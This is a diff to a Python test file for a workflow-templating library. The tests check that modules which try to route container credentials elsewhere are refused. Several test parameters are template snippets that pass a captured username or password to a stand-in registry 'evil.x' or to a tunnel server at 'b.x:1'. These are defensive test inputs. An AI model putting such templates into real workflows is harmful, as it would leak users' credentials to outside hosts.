@@ -14,6 +14,7 @@ from gridstead.workflow.render import render, secrets_of
 
 KEY = base64.b64encode(b"k" * 32).decode()
 OTHER_KEY = base64.b64encode(b"o" * 32).decode()
+# The texts of RUN that are secret.
 SECRETS = ("hush-user", "hush-password", "hush-token", KEY)
 CONTAINER = {
     "image": "a", "registry": "r", "username": "hush-user", "password": "hush-password",
@@ -32,7 +33,8 @@ RUN = {
         },
     ],
 }
-# Modules: the first inserts the given steps unchanged, the second reads the container of the first.
+# INSERT_STEPS is a module that inserts the given steps unchanged. READ_CONTAINER is the start of a
+# module that reads the container of the first given step into $c.
 INSERT_STEPS = "steps:\n{{- .Step.Use.Steps | toYaml | nindent 0 }}\n"
 READ_CONTAINER = "{{- $run := (index .Step.Use.Steps 0).Run }}{{ $c := $run.Container }}\n"
 
@@ -89,31 +91,35 @@ def test_secrets_are_passed_through_nested_modules():
 
 
 @pytest.mark.parametrize(
-    ("path", "run"),
+    ("path", "run_field"),
     [
-        (
+        pytest.param(
             "container.username",
             "container: {image: a, registry: evil.x, username: {{ $c.Username }}, password: p}",
+            id="user name to another registry",
         ),
-        (
+        pytest.param(
             "container.password",
             "container: {image: a, registry: evil.x, username: u, password: {{ $c.Password }}}",
+            id="password to another registry",
         ),
-        (
+        pytest.param(
             "container.password",
             "container: {image: a, registry: r, username: hush-user, password: {{ $c.Password }}}",
+            id="password with a user name that is typed instead of masked",
         ),
-        (
+        pytest.param(
             "customNetworkInterfaces[0].bore.secret",
             (
                 "customNetworkInterfaces:"
                 " [{bore: {boreAddress: 'b.x:1', targetPort: 80, secret: {{ $c.Password }}}}]"
             ),
+            id="password to a bore server",
         ),
     ],
 )
-def test_a_module_that_sends_a_secret_elsewhere_is_refused(path, run):
-    text = READ_CONTAINER + f"steps: [{{run: {{command: x, {run}}}}}]\n"
+def test_a_module_that_sends_a_secret_elsewhere_is_refused(path, run_field):
+    text = READ_CONTAINER + "steps: [{run: {command: x, " + run_field + "}}]\n"
 
     (problem,) = problems_of(lambda: with_module(text))
 
@@ -127,4 +133,5 @@ def test_a_mask_in_another_field_is_not_replaced():
     )
 
     (variable,) = job.steps[0].use.module.steps[0].run.env
-    assert base64.b64decode(variable.value).split() == [b"secret", b"1", b"of", b"a", b"step"]
+    mask_text = b" ".join(base64.b64decode(variable.value).split())
+    assert mask_text == b"secret 1 of a step"
